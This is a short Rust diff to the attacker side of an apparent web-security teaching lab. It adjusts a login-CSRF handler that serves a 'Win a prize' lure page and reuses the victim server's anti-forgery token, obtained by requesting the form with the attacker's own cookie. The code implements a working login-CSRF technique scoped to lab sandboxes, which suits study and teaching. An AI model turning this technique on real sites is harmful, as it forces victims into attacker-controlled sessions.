@@ -47,7 +47,8 @@ pub(in crate::parties::attacker) async fn login_csrf(
     if attacker.campaigns().find(&campaign).is_none() {
         return StatusCode::NOT_FOUND.into_response();
     }
-    let action = format!("{}{ROOM}/login", attacker.victim);
+    // The query says where the lab is to note it.
+    let action = format!("{}{ROOM}/login?sandbox={}", attacker.victim, attack.sandbox);
     let form = OwnForm::ask_for(&attacker, &attack.sandbox).await.unwrap_or_default();
     let page = document(
         "Win a prize",
@@ -128,13 +129,13 @@ async fn read(attacker: &Attacker, sandbox: &SandboxId) -> reqwest::Result<(u16,
 
 /// The form as the victim's server hands it to anybody who asks: to this server, with a cookie of its own.
 #[derive(Default)]
-struct OwnForm {
+pub(super) struct OwnForm {
     cookie: String,
     anti_forgery_token: String,
 }
 
 impl OwnForm {
-    async fn ask_for(attacker: &Attacker, sandbox: &SandboxId) -> reqwest::Result<Self> {
+    pub(super) async fn ask_for(attacker: &Attacker, sandbox: &SandboxId) -> reqwest::Result<Self> {
         let form = attacker.client.get(format!("{}{ROOM}/form", attacker.victim));
         let answer = form.header(header::COOKIE, format!("__Host-sandbox={sandbox}")).send().await?;
         let cookie = cookies(answer.headers());
